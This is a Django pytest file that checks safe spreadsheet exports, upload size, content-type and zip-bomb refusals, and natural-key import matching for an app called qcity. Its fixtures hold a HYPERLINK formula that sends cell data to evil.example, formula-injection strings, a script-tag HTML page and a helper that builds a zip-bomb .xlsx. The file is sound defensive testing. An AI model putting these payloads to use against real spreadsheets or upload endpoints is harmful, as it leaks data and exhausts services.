"""Issue 10 — safe exports, the one upload path, imports matched on the natural key only.

Exports: a cell such as ``=HYPERLINK(...)`` comes out inert in every .xlsx/.csv writer.
Uploads: every entry point refuses an oversized file (size before reading, also when the body
streams in), a file whose content is not what it claims (an .html page renamed), and a zip bomb
where the field takes office files — and leaves nothing behind.
Imports: a row without its natural key creates, never updates a guess; a key matching several
records is reported for that row.
"""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from qcity.core.models import ImportRun, OrgUnit

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"


def bomb_xlsx(megabytes=8) -> bytes:
    """A small .xlsx whose sheet inflates ~1000:1 (the attacker's 580 KB file, scaled down)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (megabytes * 1024 * 1024))
    return buffer.getvalue()


def real_xlsx(rows) -> bytes:
    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def big(name, megabytes=2, head=b"a,b\n") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, head + b"1,2\n" * (megabytes * 1024 * 1024 // 4))


@pytest.fixture
def one_mb_limit(settings):
    settings.QCITY_MAX_UPLOAD_MB = 1


# ---------------------------------------------------------------- exports
def _csv_cells(response):
    return [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(response):
    wb = load_workbook(io.BytesIO(response.content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_generic_list_csv_and_xlsx_exports_write_formula_cells_inert(world, client_for):
    OrgUnit.objects.filter(pk=world.unit("市市场监管局").pk).update(name=FORMULA)
    client = client_for("office_admin")
    csv_cells = _csv_cells(client.get("/core/orgunits/?export=csv"))
    assert "'" + FORMULA in csv_cells and FORMULA not in csv_cells
    cells = _xlsx_cells(client.get("/core/orgunits/?export=xlsx"))
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + FORMULA in texts
    assert not any(c.data_type == "f" for c in cells)


def test_gsxt_csv_writes_formula_cells_inert(world, client_for):
    from qcity.inspection.models import InspectionRecord

    client = client_for("market_staff")
    record = (
        InspectionRecord.objects.for_user(world.user("market_staff")).filter(is_void=False).first()
    )
    assert record is not None, "the demo world has inspection records"
    InspectionRecord.objects.filter(pk=record.pk).update(is_public=True)
    type(record.enterprise).objects.filter(pk=record.enterprise_id).update(name="@SUM(1+1)*cmd")
    cells = _csv_cells(client.get("/inspection/inspectionrecords/gsxt.csv"))
    assert "'@SUM(1+1)*cmd" in cells and "@SUM(1+1)*cmd" not in cells


def test_plan_task_table_xlsx_writes_formula_cells_inert(world, client_for):
    from qcity.plans.demo import city_plan

    plan = city_plan()
    task = plan.tasks.order_by("pk").first()
    type(task).objects.filter(pk=task.pk).update(title=FORMULA)
    cells = _xlsx_cells(client_for("market_staff").get(f"/plans/plans/{plan.pk}/export/tasks.xlsx"))
    assert "'" + FORMULA in [c.value for c in cells]
    assert not any(c.data_type == "f" for c in cells)


def test_export_cells_keep_real_negative_numbers_and_neutralise_tab_cr_plus():
    from qcity.core.documents import cell_value

    assert cell_value(-12.5) == -12.5 and cell_value("-12.5") == "-12.5"
    assert [cell_value(v) for v in ("+1+cmd", "\tx", "\rx", "-2+3*A1")] == [
        "'+1+cmd",
        "'\tx",
        "'\rx",
        "'-2+3*A1",
    ]


# ---------------------------------------------------------------- the generic importer
def _import(client, file, url="/core/orgunits/import/"):
    return client.post(url, {"file": file, "mode": "all"})


def test_generic_import_refuses_an_oversized_file_naming_the_limit(world, client_for, one_mb_limit):
    response = _import(client_for("office_admin"), big("units.csv"))
    assert response.status_code == 400 and "1 MB" in response.content.decode()
    assert not ImportRun.objects.exists()


def test_generic_import_refuses_html_renamed_csv_and_xlsx(world, client_for):
    client = client_for("office_admin")
    for name in ("units.csv", "units.xlsx"):
        response = _import(client, SimpleUploadedFile(name, HTML))
        assert response.status_code == 400, name
    assert not ImportRun.objects.exists()


def test_generic_import_refuses_a_zip_bomb_before_openpyxl_reads_it(world, client_for):
    response = _import(client_for("office_admin"), SimpleUploadedFile("units.xlsx", bomb_xlsx()))
    assert response.status_code == 400 and "压缩" in response.content.decode()
    assert not ImportRun.objects.exists()


def test_streamed_body_past_the_limit_is_refused_by_the_upload_handler(
    world, client_for, one_mb_limit
):
    """The handler counts bytes as they arrive; the view receives an empty, refused file."""
    from django.test.client import encode_multipart

    body = encode_multipart("BoUnDaRy", {"file": big("units.csv", 3), "mode": "all"})
    client = client_for("office_admin")
    response = client.generic(
        "POST",
        "/core/orgunits/import/",
        body,
        content_type="multipart/form-data; boundary=BoUnDaRy",
    )
    assert response.status_code == 400 and "1 MB" in response.content.decode()
    assert not ImportRun.objects.exists()


def test_import_error_record_stays_short(world, client_for, settings):
    settings.QCITY_IMPORT_MAX_ERRORS = 5
    rows = [["单位名称", "简称", "单位类型", "区划代码", "上级单位"]] + [
        [f"坏行{i}", "x" * 5000, "no-such-kind", "990100", ""] for i in range(40)
    ]
    _import(client_for("office_admin"), SimpleUploadedFile("units.xlsx", real_xlsx(rows)))
    run = ImportRun.objects.get()
    assert len(run.errors) <= 6 and "另有" in run.errors[-1]["reason"]
    assert all(len(e["reason"]) <= settings.QCITY_IMPORT_ERROR_TEXT_MAX for e in run.errors)


# ---------------------------------------------------------------- natural keys
ENTERPRISE_HEADER = ["名称", "统一社会信用代码", "住所", "区划代码", "主体类型"]


def test_enterprise_row_without_credit_code_creates_and_never_updates_a_guess(world, client_for):
    from qcity.registry.models import Enterprise

    region = world.districts[0]
    codeless = Enterprise.objects.filter(credit_code=None).order_by("pk").first()
    if codeless is None:
        codeless = Enterprise.objects.create(name="无码个体户甲", region=region, address="甲路1号")
    before = (codeless.name, codeless.address)
    rows = [ENTERPRISE_HEADER, ["新个体户乙", "", "乙路2号", region.code, "other"]]
    response = _import(
        client_for("office_admin"),
        SimpleUploadedFile("e.xlsx", real_xlsx(rows)),
        "/registry/enterprises/import/",
    )
    assert response.status_code == 302
    run = ImportRun.objects.get()
    assert run.rows_created == 1 and run.rows_updated == 0, run.errors
    codeless.refresh_from_db()
    assert (codeless.name, codeless.address) == before
    assert Enterprise.objects.filter(name="新个体户乙", credit_code=None).exists()


def test_a_key_matching_several_records_is_reported_for_that_row(world, client_for):
    from qcity.registry.models import Enterprise, Product, ProductCategory

    firm = Enterprise.objects.exclude(credit_code=None).order_by("pk").first()
    category = ProductCategory.objects.get(code="F010101")
    for _ in range(2):
        Product.objects.create(enterprise=firm, name="重名产品", category=category, spec="500g")
    rows = [["统一社会信用代码", "产品名称", "类别代码", "规格型号", "商标"]]
    rows.append([firm.credit_code, "重名产品", "F010101", "500g", "新商标"])
    _import(
        client_for("office_admin"),
        SimpleUploadedFile("p.xlsx", real_xlsx(rows)),
        "/registry/products/import/",
    )
    run = ImportRun.objects.get()
    assert run.rows_updated == 0
    assert any(e["row"] == 2 and "2 条" in e["reason"] for e in run.errors), run.errors
    assert not Product.objects.filter(brand="新商标").exists()


# ---------------------------------------------------------------- other upload entry points
def test_observation_evidence_refuses_oversized_html_and_bomb(world, client_for, one_mb_limit):
    client = client_for("office_admin")
    for file, phrase in [
        (big("evidence.pdf", head=b"%PDF-1.4\n"), "1 MB"),
        (SimpleUploadedFile("evidence.pdf", HTML), "按内容识别"),
        (SimpleUploadedFile("evidence.html", HTML), "格式不支持"),
        (SimpleUploadedFile("evidence.xlsx", bomb_xlsx()), "压缩"),
    ]:
        response = client.post("/indicators/observations/new/", {"evidence": file})
        assert response.status_code in (200, 400) and phrase in response.content.decode(), phrase


def test_observation_evidence_through_the_api_is_checked_by_content(world, client_for):
    client = client_for("office_admin")
    response = client.post(
        "/api/indicators/observations/",
        {"evidence": SimpleUploadedFile("evidence.pdf", HTML)},
    )
    assert response.status_code == 400
    assert "按内容识别" in str(response.json())


def test_result_import_refuses_oversized_html_and_bomb(world, client_for, one_mb_limit):
    from qcity.inspection.models import ResultImport
    from qcity.inspection.tests import helpers

    with helpers.admin(world):
        plan = helpers.plan(world)
    client = client_for("office_admin")
    for url in (
        f"/inspection/samplingplans/{plan.pk}/import/",
        f"/inspection/samplingplans/{plan.pk}/bulk-import/",
    ):
        for file, phrase in [
            (big("results.csv"), "1 MB"),
            (SimpleUploadedFile("results.xlsx", HTML), "按内容识别"),
            (SimpleUploadedFile("results.xlsx", bomb_xlsx()), "压缩"),
        ]:
            response = client.post(url, {"file": file})
            assert response.status_code == 400 and phrase in response.content.decode(), (
                url,
                phrase,
            )
    assert not ResultImport.objects.filter(plan=plan).exists()


def test_plan_upload_refuses_oversized_renamed_and_bomb(world, client_for, one_mb_limit):
    from qcity.plans.models import PlanImport

    before = PlanImport.objects.count()
    client = client_for("office_admin")
    for file, phrase in [
        (big("plan.txt"), "1 MB"),
        (SimpleUploadedFile("plan.pdf", HTML), "按内容识别"),
        (SimpleUploadedFile("plan.docx", bomb_xlsx()), "按内容识别"),
        (SimpleUploadedFile("plan.xlsx", bomb_xlsx()), "压缩"),
    ]:
        response = client.post("/plans/imports/new/", {"file": file, "role": "ours"})
        assert response.status_code in (200, 400) and phrase in response.content.decode(), phrase
    assert PlanImport.objects.count() == before


def test_figure_import_refuses_oversized_renamed_and_bomb(world, client_for, one_mb_limit):
    client = client_for("office_admin")
    for file, phrase in [
        (big("figures.csv"), "1 MB"),
        (SimpleUploadedFile("figures.xlsx", HTML), "按内容识别"),
        (SimpleUploadedFile("figures.xlsx", bomb_xlsx()), "压缩"),
    ]:
        response = client.post("/indicators/observations/import-figures/", {"file": file})
        assert response.status_code == 400 and phrase in response.content.decode(), phrase
        assert "indicator_import" not in client.session
